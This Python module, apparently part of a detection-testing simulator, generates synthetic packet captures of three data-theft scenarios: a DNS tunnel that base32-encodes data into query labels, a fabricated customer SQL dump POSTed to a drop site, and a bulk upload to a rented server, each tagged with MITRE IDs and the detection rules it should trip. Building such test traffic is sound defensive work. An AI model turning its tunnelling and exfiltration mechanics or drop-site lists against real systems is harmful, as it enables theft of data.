"""Exfiltration from a compromised workstation: a DNS tunnel, a database dump POSTed over HTTP, a bulk upload."""

from __future__ import annotations

import base64
from random import Random

from scapy.layers.dns import DNS, DNSQR, DNSRR

from tocsin.simulate.formats import network
from tocsin.simulate.formats.packets import GRO_SEGMENT, tcp_connection, udp
from tocsin.simulate.simulation import Simulation
from tocsin.simulate.world import token

TUNNEL_DOMAINS = ("cdn-metrics-sync.com", "telemetry-update.net", "img-cache-static.org")
DROP_SITES = (("files-transfer.top", "45.134.26.70"), ("paste-share.xyz", "193.32.162.41"))
UPLOAD_TARGETS = ("185.220.101.47", "45.134.20.133", "103.253.41.9")


def dump(rng: Random, rows: int) -> bytes:
    """A mysqldump of a customer table: what an intruder steals."""
    lines = [
        "-- MySQL dump 10.13  Distrib 8.0.36, for Linux (x86_64)",
        "--",
        "-- Host: db-1    Database: crm",
        "",
        "CREATE TABLE `customers` (",
        "  `id` int NOT NULL AUTO_INCREMENT,",
        "  `email` varchar(255) NOT NULL,",
        "  `name` varchar(255) DEFAULT NULL,",
        "  `phone` varchar(32) DEFAULT NULL,",
        "  PRIMARY KEY (`id`)",
        ") ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;",
        "",
    ]
    for row in range(1, rows + 1):
        name = token(rng, rng.randint(4, 9), "abcdefghijklmnopqrstuvwxyz")
        lines.append(
            f"INSERT INTO `customers` (`id`, `email`, `name`, `phone`) VALUES ({row},'{name}{row}@"
            f"{rng.choice(('gmail.com', 'outlook.com', 'web.de'))}','{name.title()}','+49 30 {rng.randint(1000000, 9999999)}');"
        )
    return ("\n".join(lines) + "\n").encode()


def exfiltration(simulation: Simulation) -> None:
    simulation.background("network", "edge")
    rng, world = simulation.rng, simulation.world
    for slot in range(simulation.settings.instances(1)):
        host = rng.choice(world.users).workstation
        domain = rng.choice(TUNNEL_DOMAINS)
        attack = simulation.attack(
            "T1048.003",
            f"DNS tunnel to {domain}",
            ["DNS Query With A Long Encoded Label", "Many Distinct DNS Names Under One Domain"],
            **{"source.ip": [host], "dns.question.registered_domain": [domain]},
        )
        time = simulation.moment(9, 17, slot)
        secret = rng.randbytes(rng.randint(8000, 16000))
        chunks = base64.b32encode(secret).decode().rstrip("=").lower()
        port = rng.randint(49152, 60000)
        for sequence, offset in enumerate(range(0, len(chunks), 56)):
            name = f"{chunks[offset : offset + 56]}.{sequence:x}.{token(rng, 4, '0123456789abcdef')}.{domain}"
            ident = rng.getrandbits(16)
            query = DNS(id=ident, rd=1, qd=DNSQR(qname=name, qtype="TXT"))
            answer = DNS(
                id=ident,
                qr=1,
                rd=1,
                ra=1,
                qd=DNSQR(qname=name, qtype="TXT"),
                an=DNSRR(rrname=name, type="TXT", ttl=0, rdata=token(rng, 12)),
            )
            port = 49152 + (port - 49151) % 16000
            attack.emit_all(
                [
                    udp("network", time, host, port, network.RESOLVER, 53, query),
                    udp("network", time + rng.uniform(0.02, 0.09), network.RESOLVER, 53, host, port, answer),
                ]
            )
            time += rng.uniform(0.2, 1.2)

        host = rng.choice(world.users).workstation
        site, address = rng.choice(DROP_SITES)
        attack = simulation.attack(
            "T1048.003",
            f"Customer database dump POSTed to {site}",
            ["SQL Database Dump", "Bulk E-mail Addresses In A Payload"],
            **{"source.ip": [host], "destination.ip": [address]},
        )
        time = simulation.moment(9, 17, slot + 1)
        body = dump(rng, rng.randint(2000, 5000))
        request = (
            f"POST /upload.php HTTP/1.1\r\nHost: {site}\r\nUser-Agent: curl/8.5.0\r\n"
            f"Content-Type: application/octet-stream\r\nContent-Length: {len(body)}\r\n\r\n"
        ).encode() + body
        attack.emit_all(
            network.lookup(rng, time, host, site, address)
            + tcp_connection(
                rng,
                "network",
                time + 0.1,
                host,
                rng.randint(49152, 65535),
                address,
                80,
                [(True, request), (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")],
            )
        )

        target = rng.choice(UPLOAD_TARGETS)
        attack = simulation.attack(
            "T1567",
            "Archive of the file share uploaded to a rented server",
            ["Large Outbound Transfer To One External Destination"],
            **{"source.ip": ["10.30.4.17"], "destination.ip": [target]},
        )
        time = simulation.moment(0, 5, slot + 2)
        size = rng.randint(110, 180) * 1_000_000
        attack.emit_all(
            tcp_connection(
                rng,
                "edge",
                time,
                "10.30.4.17",
                rng.randint(49152, 65535),
                target,
                443,
                [(True, 517), (False, 4_100), (True, size), (False, 800)],
                segment=GRO_SEGMENT,
            )
        )
